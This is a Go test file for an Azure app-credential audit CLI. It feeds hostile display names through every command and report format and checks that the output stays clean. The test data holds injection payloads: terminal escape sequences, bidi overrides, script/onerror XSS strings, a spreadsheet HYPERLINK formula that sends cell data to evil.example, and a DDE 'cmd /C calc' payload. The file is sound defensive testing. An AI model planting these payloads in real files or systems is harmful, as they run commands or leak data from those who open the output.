package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/golang-jwt/jwt/v5"
	"golang.org/x/net/html"

	"github.com/appaudit/appaudit/audit"
	"github.com/appaudit/appaudit/audit/audittest"
	"github.com/appaudit/appaudit/graphclient"
	"github.com/appaudit/appaudit/graphclient/graphtest"
	"github.com/appaudit/appaudit/reports"
)

// What someone who can name an app registration, a credential or a file
// might put in the name, to attack whoever reads appaudit's output: the
// terminal (escape sequences, a forged line, OSC 8 links, the 8-bit CSI),
// the eye (bidirectional overrides, zero-width characters), HTML and XML,
// spreadsheets (formulas), and the reader's patience (a huge name).
const (
	hostileTerm    = "Evil\x1b[2J\x1b[31mApp\r\nforged line\x00nul \x1b]8;;http://evil.example\x07link\x1b]8;;\x07 \u009b31m8bit \u0085nel"
	hostileBidi    = "invoice\u202egnp.exe \u2066isolate\u2069 zero\u200bwidth \u2028sep"
	hostileMarkup  = "<script>alert(1)</script><img src=x onerror=alert(2)> ]]><injected/> \"q\" \\ & @admins {{.}} ${x}"
	hostileFormula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
	hostileCmd     = "+cmd|' /C calc'!A0"
	hostileEmoji   = "🔥 Mailer 👩‍💻"
)

// hostileHuge is a display name of 200 KB.
var hostileHuge = "@" + strings.Repeat("very long name ", 13_000) + hostileTerm

// rawHostile are the characters no text output may carry as they are.
var rawHostile = []string{"\x1b", "\r", "\x00", "\x07", "\u009b", "\u0085", "\u202e", "\u2066", "\u2069", "\u200b", "\u2028"}

// noRawHostile checks text meant for a terminal, a text file or a viewer.
func noRawHostile(t *testing.T, what, out string) {
	t.Helper()
	for _, bad := range rawHostile {
		if strings.Contains(out, bad) {
			i := strings.Index(out, bad)
			t.Errorf("%s holds %q as it is: …%q…", what, bad, out[max(0, i-40):min(len(out), i+40)])
		}
	}
	if strings.Contains(out, "\nforged line") {
		t.Errorf("%s: a line break in a name forged a line", what)
	}
	if !utf8.ValidString(out) {
		t.Errorf("%s is not valid UTF-8", what)
	}
}

// checkStderr: stderr is errors and warnings, one line each, prefixed,
// none of them carrying a name whole.
func checkStderr(t *testing.T, what, errOut string) {
	t.Helper()
	noRawHostile(t, what+": stderr", errOut)
	for _, line := range strings.Split(strings.TrimSuffix(errOut, "\n"), "\n") {
		if line == "" && errOut == "" {
			continue
		}
		if !strings.HasPrefix(line, "appaudit: ") {
			t.Errorf("%s: stderr line not from appaudit: %.120q", what, line)
		}
		if len(line) > 4000 {
			t.Errorf("%s: stderr line of %d bytes: a name was not clipped", what, len(line))
		}
	}
}

// hostileWorld is a tenant with hostile names wherever Graph lets a name
// be, certificate files with hostile file names, a mapping with hostile
// rows, and evidence for doctor that names the hostile apps.
type hostileWorld struct {
	dir      string
	snapshot string // an appaudit snapshot, with hint and secretText too
	tenant   *audit.Tenant
	certs    string
	deployed string
	newCert  string // a certificate file for preflight
	appID    string // of the app named hostileTerm
	errText  string // an AADSTS700027 error for doctor
	jwt      string // a client assertion with hostile claims
}

func newHostileWorld(t *testing.T) *hostileWorld {
	t.Helper()
	now := audittest.Now()
	w := &hostileWorld{dir: t.TempDir(), appID: "00000000-0000-4000-a000-00000000e711"}
	w.snapshot, w.certs, w.deployed = w.path("tenant.json"), w.path("certs"), w.path("deployed.csv")
	expired := audittest.Valid("expired.contoso.com", now, audittest.Days(400), -audittest.Days(3))
	current := audittest.Valid("current.contoso.com", now, audittest.Days(30), audittest.Days(300))
	deployedOnly := audittest.MustCert(audittest.Spec{CommonName: "deployed.contoso.com", NotBefore: now.Add(-audittest.Days(1)), NotAfter: now.Add(audittest.Days(200)), Key: audittest.KeyB()})
	saml := audittest.Valid("Microsoft Azure Federated SSO Certificate", now, audittest.Days(1000), audittest.Days(20))

	k := func(c *audittest.Cert, id, name string, body bool) audit.KeyCredential {
		kc := c.KeyCredential(id, audit.UsageVerify, body)
		kc.DisplayName = name
		return kc
	}
	term := audittest.App(w.appID, hostileTerm, k(expired, "k-term-1", hostileBidi, false), k(current, "k-term-2", hostileMarkup, true))
	term.PasswordCredentials = []audit.PasswordCredential{{KeyID: "s-term", DisplayName: hostileFormula, Start: now.Add(-audittest.Days(700)), End: now.Add(audittest.Days(5))}}
	term.SignInAudience = hostileCmd
	markup := audittest.App("00000000-0000-4000-a000-00000000e712", hostileMarkup, k(expired, "k-markup", hostileTerm, true))
	huge := audittest.App("00000000-0000-4000-a000-00000000e713", hostileHuge, k(current, "k-huge", hostileHuge, false))
	huge.PasswordCredentials = []audit.PasswordCredential{{KeyID: "s-huge", DisplayName: hostileCmd, Start: now.Add(-audittest.Days(10)), End: now.Add(-audittest.Days(1))}}
	weird := audittest.App("\x1b[31mnot-a-guid\r\n", hostileEmoji+hostileBidi, k(expired, "\x1b]8;;http://evil.example\x07key", hostileEmoji, false))
	w.tenant = audittest.Tenant(term, markup, huge, weird)
	w.tenant.Cloud, w.tenant.TakenAt = "public", now
	sign := saml.KeyCredential("k-saml-sign", audit.UsageSign, true)
	sign.DisplayName = hostileTerm
	verify := saml.KeyCredential("k-saml-verify", audit.UsageVerify, true)
	w.tenant.ServicePrincipals = []audit.ServicePrincipal{{
		Principal: audit.Principal{ObjectID: "sp-hostile", AppID: "00000000-0000-4000-a000-00000000e719", DisplayName: "@SUM(1) " + hostileTerm,
			KeyCredentials: []audit.KeyCredential{sign, verify}},
		AppDisplayName: hostileMarkup + hostileBidi, ServicePrincipalType: hostileTerm, AppOwnerOrganizationID: hostileFormula,
		PreferredTokenSigningKeyThumbprint: saml.Thumbprints().SHA1,
	}}

	// The snapshot, with what Graph may also return and appaudit must
	// drop: a secret's hint and text.
	var snap bytes.Buffer
	if err := graphclient.WriteSnapshot(&snap, w.tenant, graphclient.SnapshotMeta{Tool: "test " + hostileTerm}); err != nil {
		t.Fatal(err)
	}
	withHint := strings.Replace(snap.String(), `"keyId":"s-term",`, `"keyId":"s-term","hint":"\u001b[2J","secretText":"\u202eterces",`, 1)
	if withHint == snap.String() {
		t.Fatal("no secret to give a hint to")
	}
	write(t, w.snapshot, []byte(withHint))

	// Certificate files whose names are hostile, a key that belongs to no
	// certificate (a warning naming its file), and a mapping whose rows
	// name the hostile apps, an app the tenant does not have, and a
	// certificate never uploaded.
	write(t, filepath.Join(w.certs, "current\x1b[31m\r\nforged line.pem"), append(current.CertPEM(), current.KeyPEM()...))
	write(t, filepath.Join(w.certs, "orphan \u202egnp.key"), audittest.MustCert(audittest.Spec{CommonName: "orphan", NotBefore: now, NotAfter: now.Add(audittest.Days(9)), Key: audittest.ECKey()}).KeyPEM())
	w.newCert = w.path("new " + hostileBidi + ".pem")
	write(t, w.newCert, append(deployedOnly.CertPEM(), deployedOnly.KeyPEM()...))
	var rows bytes.Buffer
	cw := csv.NewWriter(&rows)
	_ = cw.WriteAll([][]string{
		{"app", "thumbprint", "cert", "owner"},
		{hostileTerm, deployedOnly.Thumbprints().SHA1, "", hostileFormula},
		{hostileMarkup, expired.Thumbprints().X5t(), "", hostileCmd},
		{"Retired " + hostileTerm, current.Thumbprints().SHA1, "", "-2+3"},
		{w.appID, "", filepath.Base(w.newCert), "@admins"},
	})
	write(t, w.deployed, rows.Bytes())

	// A key-not-found error naming the hostile app, wrapped in hostile
	// text; an assertion whose claims and header are hostile.
	w.errText = "AADSTS700027: Client assertion failed signature validation. [Reason - The key was not found., Thumbprint of key used by client: '" +
		deployedOnly.Thumbprints().SHA1 + "', Please visit the Azure Portal, Graph Explorer or directly use MS Graph to see configured keys for app Id '" +
		w.appID + "'. Review the documentation at https://docs.microsoft.com/en-us/graph/deployments to determine the corresponding service endpoint.] " +
		hostileTerm + hostileBidi + "\nTrace ID: 0000"
	tok := jwt.NewWithClaims(jwt.SigningMethodPS256, jwt.MapClaims{
		"aud": "https://login.microsoftonline.com/" + hostileTerm + "/oauth2/v2.0/token", "iss": hostileTerm, "sub": w.appID,
		"jti": hostileBidi, "nbf": now.Add(-audittest.Days(1)).Unix(), "exp": now.Add(audittest.Days(1)).Unix(),
	})
	tok.Header = map[string]any{"alg": "PS256", "typ": hostileMarkup, "x5t": hostileTerm, "kid": hostileBidi}
	signed, err := tok.SignedString(deployedOnly.Key)
	if err != nil {
		t.Fatal(err)
	}
	w.jwt = signed
	write(t, w.path("error.txt"), []byte(w.errText))
	write(t, w.path("assertion.jwt"), []byte(w.jwt))
	return w
}

func (w *hostileWorld) path(name string) string { return filepath.Join(w.dir, name) }

// allFormats asks for the table on stdout and every other format in a
// file of dir.
func allFormats(dir string) []string {
	args := []string{"-o", "table"}
	for _, f := range reports.Formats() {
		if f.Name != "table" {
			args = append(args, "-o", f.Name+"="+filepath.Join(dir, "report."+f.Name))
		}
	}
	return args
}

// checkHostileReports checks the stdout table and every report file in dir.
func checkHostileReports(t *testing.T, what, stdout, dir string) *audit.Result {
	t.Helper()
	noRawHostile(t, what+": stdout", stdout)
	var result *audit.Result
	for _, f := range reports.Formats() {
		if f.Name == "table" {
			continue
		}
		name := what + ": " + f.Name
		b, err := os.ReadFile(filepath.Join(dir, "report."+f.Name))
		if err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		if f.Name != "json" {
			noRawHostile(t, name, string(b))
		}
		switch f.Name {
		case "json":
			if result, err = reports.ReadJSON(bytes.NewReader(b), name); err != nil {
				t.Errorf("%s: %v", name, err)
			}
		case "sarif":
			if !json.Valid(b) {
				t.Errorf("%s is not JSON", name)
			}
		case "csv":
			checkCSV(t, name, b)
		case "html":
			checkHTML(t, name, b)
		case "junit":
			checkXML(t, name, b)
		case "prometheus":
			checkProm(t, name, b)
		}
	}
	return result
}

func checkCSV(t *testing.T, name string, b []byte) {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Errorf("%s does not parse: %v", name, err)
		return
	}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("%s: cell %.60q would be a spreadsheet formula", name, cell)
			}
		}
	}
}

func checkHTML(t *testing.T, name string, b []byte) {
	t.Helper()
	doc, err := html.Parse(bytes.NewReader(b))
	if err != nil {
		t.Errorf("%s does not parse: %v", name, err)
		return
	}
	var walk func(*html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			if n.Data == "script" || n.Data == "img" || n.Data == "injected" || n.Data == "iframe" {
				t.Errorf("%s: a <%s> element", name, n.Data)
			}
			for _, a := range n.Attr {
				if strings.HasPrefix(a.Key, "on") || a.Key == "src" {
					t.Errorf("%s: attribute %s=%q on <%s>", name, a.Key, a.Val, n.Data)
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
}

func checkXML(t *testing.T, name string, b []byte) {
	t.Helper()
	dec := xml.NewDecoder(bytes.NewReader(b))
	for {
		tok, err := dec.Token()
		if err == io.EOF {
			return
		}
		if err != nil {
			t.Errorf("%s is not well-formed XML: %v", name, err)
			return
		}
		if se, ok := tok.(xml.StartElement); ok && se.Name.Local == "injected" {
			t.Errorf("%s: an <injected> element", name)
		}
	}
}

// promLine is a sample line of the Prometheus text format, its label
// values escaped.
var promLine = regexp.MustCompile(`^[a-zA-Z_:][a-zA-Z0-9_:]*(\{([a-zA-Z_][a-zA-Z0-9_]*="(\\[\\"n]|[^"\\\n])*",?)*\})? (-?[0-9.eE+-]+|NaN|[+-]Inf)( -?[0-9]+)?$`)

func checkProm(t *testing.T, name string, b []byte) {
	t.Helper()
	for i, line := range strings.Split(strings.TrimSuffix(string(b), "\n"), "\n") {
		if line == "" || strings.HasPrefix(line, "# HELP ") || strings.HasPrefix(line, "# TYPE ") {
			continue
		}
		if !promLine.MatchString(line) {
			t.Errorf("%s: line %d is not a sample: %.200q", name, i+1, line)
		}
	}
}

// hostileNamesKept: the JSON report keeps the names exactly, so that
// nothing is lost by making the other formats safe.
func hostileNamesKept(t *testing.T, what string, r *audit.Result, names ...string) {
	t.Helper()
	if r == nil {
		return
	}
	seen := map[string]bool{}
	for _, f := range r.Findings {
		if f.App != nil {
			seen[f.App.DisplayName] = true
		}
	}
	for _, n := range names {
		if !seen[n] {
			t.Errorf("%s: no finding names %.40q exactly in the JSON report", what, n)
		}
	}
}

// Hostile names, from a snapshot and from the fake Graph, through every
// command and every format: nothing reaches the terminal or a text format
// raw, every structured format still parses, CSV cells cannot be
// formulas, and the JSON report keeps the names exactly.
func TestHostileTenantDataInEveryCommand(t *testing.T) {
	w := newHostileWorld(t)
	srv := serve(t, w.snapshot, graphtest.Options{})
	local := []string{"--certs", w.certs, "--deployed", w.deployed}
	live := []string{"--auth", "token", "--graph-url", srv.URL}
	asOf := []string{"--as-of", asOf(), "--fail-on", "none"}
	for _, tc := range []struct {
		name string
		args []string
		code int
		kept []string // display names the JSON report must name exactly
	}{
		{"scan --snapshot", append(append([]string{"scan", "--snapshot", w.snapshot}, local...), asOf...), exitOK, []string{hostileTerm, hostileMarkup, hostileHuge}},
		{"scan live", append(append(append([]string{"scan"}, live...), local...), asOf...), exitOK, []string{hostileTerm, hostileMarkup, hostileHuge}},
		{"scan live --no-key-fetch", append(append(append([]string{"scan", "--no-key-fetch"}, live...), local...), asOf...), exitOK, []string{hostileTerm}},
		{"doctor --error --snapshot", append([]string{"doctor", "--error", w.path("error.txt"), "--snapshot", w.snapshot, "--certs", w.certs}, asOf...), exitOK, nil},
		{"doctor --assertion live", append(append([]string{"doctor", "--assertion", w.path("assertion.jwt"), "--cert", w.newCert}, live...), asOf...), exitOK, nil},
		{"preflight --snapshot", append([]string{"preflight", "--snapshot", w.snapshot, "--app", hostileTerm, "--cert", w.newCert, "--old", w.path("certs/current\x1b[31m\r\nforged line.pem")}, asOf...), exitOK, nil},
		{"preflight live", append(append([]string{"preflight", "--app", w.appID, "--cert", w.newCert}, live...), asOf...), exitOK, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			code, out, errOut := runCLI(t, tokenEnv, append(tc.args, allFormats(dir)...)...)
			if code != tc.code {
				t.Fatalf("exit %d, want %d\nstderr: %.2000s", code, tc.code, errOut)
			}
			checkStderr(t, tc.name, errOut)
			r := checkHostileReports(t, tc.name, out, dir)
			hostileNamesKept(t, tc.name, r, tc.kept...)

			// The saved report renders again, and serves as a baseline.
			if tc.name == "scan --snapshot" {
				again := t.TempDir()
				code, out, errOut := runCLI(t, nil, append([]string{"report", "--from", filepath.Join(dir, "report.json")}, allFormats(again)...)...)
				if code != exitOK {
					t.Fatalf("report --from: exit %d\n%s", code, errOut)
				}
				checkStderr(t, "report --from", errOut)
				hostileNamesKept(t, "report --from", checkHostileReports(t, "report --from", out, again), tc.kept...)
				code, out, errOut = runCLI(t, nil, append(append(append([]string{"scan", "--snapshot", w.snapshot, "--baseline", filepath.Join(dir, "report.json")}, local...), asOf...), allFormats(again)...)...)
				if code != exitOK {
					t.Fatalf("scan --baseline: exit %d\n%s", code, errOut)
				}
				checkStderr(t, "scan --baseline", errOut)
				checkHostileReports(t, "scan --baseline", out, again)
			}
		})
	}
}

// A snapshot taken from a Graph full of hostile names keeps them exactly,
// drops the secret hint, and its progress and warnings stay clean.
func TestHostileSnapshotCommand(t *testing.T) {
	w := newHostileWorld(t)
	srv := serve(t, w.snapshot, graphtest.Options{})
	out := filepath.Join(t.TempDir(), "taken.json")
	code, stdout, errOut := runCLI(t, tokenEnv, "snapshot", "--auth", "token", "--graph-url", srv.URL, "--out", out)
	if code != exitOK || stdout != "" {
		t.Fatalf("exit %d, stdout %q, stderr %q", code, stdout, errOut)
	}
	checkStderr(t, "snapshot", errOut)
	b, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	if !json.Valid(b) || bytes.Contains(b, []byte("terces")) || bytes.Contains(b, []byte(`"hint"`)) {
		t.Fatal("the snapshot is not JSON, or keeps a secret's text or hint")
	}
	taken, err := graphclient.ReadSnapshotFile(out)
	if err != nil {
		t.Fatal(err)
	}
	names := map[string]bool{}
	for _, a := range taken.Applications {
		names[a.DisplayName] = true
	}
	for _, a := range w.tenant.Applications {
		if !names[a.DisplayName] {
			t.Errorf("the snapshot lost or changed the name %.40q", a.DisplayName)
		}
	}
	if len(taken.ServicePrincipals) != 1 || taken.ServicePrincipals[0].ServicePrincipalType != hostileTerm {
		t.Errorf("service principals %+v", taken.ServicePrincipals)
	}
}

// hostileGraph answers as the fake does, except that Graph's error
// messages and codes are hostile: a 403 on the service principals, and a
// failure inside every $batch.
func hostileGraph(t *testing.T, snapshot string) string {
	t.Helper()
	tenant, err := graphclient.ReadSnapshotFile(snapshot)
	if err != nil {
		t.Fatal(err)
	}
	fake, err := graphtest.NewHandler(tenant, graphtest.Options{Token: fakeToken})
	if err != nil {
		t.Fatal(err)
	}
	msg, _ := json.Marshal(hostileTerm + hostileBidi + strings.Repeat(" long", 2000))
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case strings.HasPrefix(r.URL.Path, "/v1.0/servicePrincipals"):
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(http.StatusForbidden)
			fmt.Fprintf(w, `{"error":{"code":%s,"message":%s}}`, msg, msg)
		case strings.HasSuffix(r.URL.Path, "/$batch"):
			var req struct {
				Requests []struct {
					ID string `json:"id"`
				} `json:"requests"`
			}
			_ = json.NewDecoder(r.Body).Decode(&req)
			var answers []string
			for _, q := range req.Requests {
				answers = append(answers, fmt.Sprintf(`{"id":%q,"status":500,"body":{"error":{"code":%s,"message":%s}}}`, q.ID, msg, msg))
			}
			w.Header().Set("Content-Type", "application/json")
			fmt.Fprintf(w, `{"responses":[%s]}`, strings.Join(answers, ","))
		default:
			fake.ServeHTTP(w, r)
		}
	}))
	t.Cleanup(srv.Close)
	return srv.URL
}

// Errors and warnings whose text comes from the tenant, the files or
// Graph itself reach stderr as one clean line each.
func TestHostileErrorsAndWarnings(t *testing.T) {
	w := newHostileWorld(t)
	incomplete := w.path("incomplete.json")
	write(t, incomplete, []byte(`{"appauditSnapshot":1,"complete":false,"tenantId":"`+jsonText(hostileTerm)+`","incompleteReason":"`+jsonText(hostileTerm+hostileBidi)+`","applications":[{"id":"o","appId":"`+jsonText(hostileTerm)+`","displayName":"`+jsonText(hostileMarkup)+`"}]}`))
	badDate := w.path("bad-date.json")
	write(t, badDate, []byte(`[{"id":"`+jsonText(hostileBidi)+`","appId":"`+jsonText(hostileTerm)+`","displayName":"`+jsonText(hostileTerm)+`","keyCredentials":[{"keyId":"k","endDateTime":"`+jsonText(hostileTerm)+`"}]}]`))
	badType := w.path("bad-type.json")
	write(t, badType, []byte(`{"@odata.context":"https://graph.microsoft.com/v1.0/$metadata#`+jsonText(hostileTerm)+`","value":[{"@odata.type":"`+jsonText(hostileTerm)+`"}]}`))
	badRow := w.path("bad-row.csv")
	write(t, badRow, []byte("app,thumbprint\n\""+hostileTerm+"\",\""+hostileTerm+"\"\n"))
	graph := hostileGraph(t, w.snapshot)
	for _, tc := range []struct {
		name string
		args []string
		code int
		want string
	}{
		{"incomplete snapshot", []string{"scan", "--snapshot", incomplete}, exitIncomplete, "audit incomplete"},
		{"bad date", []string{"scan", "--snapshot", badDate}, exitUsage, "is not a date"},
		{"bad @odata.type", []string{"scan", "--snapshot", badType}, exitUsage, "bad-type.json"},
		{"bad mapping row", []string{"scan", "--snapshot", w.snapshot, "--deployed", badRow}, exitUsage, "bad-row.csv:2"},
		{"hostile certificate file names", []string{"scan", "--snapshot", w.snapshot, "--certs", w.certs, "--deployed", w.deployed}, exitOK, "warning"},
		{"hostile Graph errors", []string{"scan", "--auth", "token", "--graph-url", graph}, exitIncomplete, "403"},
		{"hostile Graph errors, snapshot", []string{"snapshot", "--auth", "token", "--graph-url", graph, "--out", w.path("partial.json")}, exitIncomplete, "403"},
		{"preflight of an app named hostile", []string{"preflight", "--snapshot", incomplete, "--app", hostileMarkup, "--cert", w.newCert}, exitIncomplete, "incomplete"},
		{"doctor of a hostile error", []string{"doctor", "--error", w.path("error.txt"), "--snapshot", incomplete}, exitIncomplete, "incomplete"},
		{"an unknown app for --app", []string{"preflight", "--snapshot", w.snapshot, "--app", hostileTerm + "x", "--cert", w.newCert}, exitFindings, ""},
		{"a thumbprint for --old", []string{"preflight", "--snapshot", w.snapshot, "--app", hostileTerm, "--cert", w.newCert, "--old", hostileTerm}, exitUsage, "--old"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			args := tc.args
			if args[0] != "snapshot" {
				args = append(args, "--as-of", asOf(), "--fail-on", "none")
			}
			code, out, errOut := runCLI(t, tokenEnv, args...)
			if tc.code == exitFindings {
				tc.code = exitOK // --fail-on none
			}
			if code != tc.code || !strings.Contains(errOut, tc.want) {
				t.Errorf("exit %d, want %d; stderr lacks %q: %.1000q", code, tc.code, tc.want, errOut)
			}
			checkStderr(t, tc.name, errOut)
			noRawHostile(t, tc.name+": stdout", out)
		})
	}
}

// jsonText is s as the inside of a JSON string.
func jsonText(s string) string {
	b, _ := json.Marshal(s)
	return string(b[1 : len(b)-1])
}
